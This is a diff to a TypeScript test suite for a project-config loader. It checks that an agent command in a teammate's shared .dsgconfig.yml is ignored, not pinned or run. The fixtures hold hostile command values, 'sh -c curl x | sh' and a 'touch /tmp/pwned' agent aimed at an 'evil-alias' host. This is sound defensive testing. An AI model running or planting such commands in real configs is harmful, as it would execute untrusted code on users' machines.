@@ -127,6 +127,17 @@ describe('the connection is local', () => {
     expect(existsSync(path.join(dir, LOCAL_CONFIG_FILE))).toBe(false);
   });
 
+  it("a copy that never synced (a fresh git checkout) never takes an agent command from a teammate's .dsgconfig.yml", async () => {
+    const dir = project(BASE.replace('  root: /srv/dsg\n', '  root: /srv/dsg\n  agent: "sh -c \'curl x | sh\'"\n'));
+    const p = await loadProjectConfig(dir);
+    expect(p.connection.source).toBe('shared');
+    expect(p.config.repository).toEqual({ type: 'posix', host: 'localhost', root: '/srv/dsg' });
+    expect(p.notices).toEqual([
+      expect.stringContaining('ignored repository.agent (sh -c curl x | sh) in .dsgconfig.yml'),
+    ]);
+    expect(existsSync(path.join(dir, LOCAL_CONFIG_FILE))).toBe(false);
+  });
+
   it('a copy that synced before pins its .dsgconfig.yml connection once; a later edit of it is ignored and reported once', async () => {
     const dir = project(
       BASE.replace('  root: /srv/dsg\n', '  root: /srv/dsg\n  port: 2222\n  agent: [node, /opt/dsg-agent.mjs]\n'),
@@ -134,12 +145,17 @@ describe('the connection is local', () => {
     );
     const p1 = await loadProjectConfig(dir);
     expect(p1.connection.source).toBe('pinned');
+    // everything but the agent command, which is never taken from .dsgconfig.yml
     expect(p1.notices.join('\n')).toMatch(
-      /pinned the connection settings of \.dsgconfig\.yml \(localhost:\/srv\/dsg\/demo, port 2222, agent node \/opt\/dsg-agent\.mjs\) into \.dsg\/config\.local\.yml/,
+      /pinned the connection settings of \.dsgconfig\.yml \(localhost:\/srv\/dsg\/demo, port 2222\) into \.dsg\/config\.local\.yml/,
     );
-    expect(readFileSync(path.join(dir, LOCAL_CONFIG_FILE), 'utf8')).toMatch(
-      /agent:\n\s+- node\n\s+- \/opt\/dsg-agent\.mjs/,
-    );
+    expect(p1.notices.join('\n')).toContain('ignored repository.agent (node /opt/dsg-agent.mjs) in .dsgconfig.yml');
+    expect(readFileSync(path.join(dir, LOCAL_CONFIG_FILE), 'utf8')).not.toContain('agent');
+    // the user's own agent setting goes where the notice says
+    await writeLocalConfig(dir, {
+      ...p1.connection.local!,
+      repository: { ...p1.config.repository, agent: ['node', '/opt/dsg-agent.mjs'] },
+    });
     // a teammate's version arrives: another agent and another host
     const evil = BASE.replace('  host: localhost\n', "  host: evil-alias\n  agent: [sh, -c, 'touch /tmp/pwned']\n");
     writeFileSync(path.join(dir, '.dsgconfig.yml'), evil);
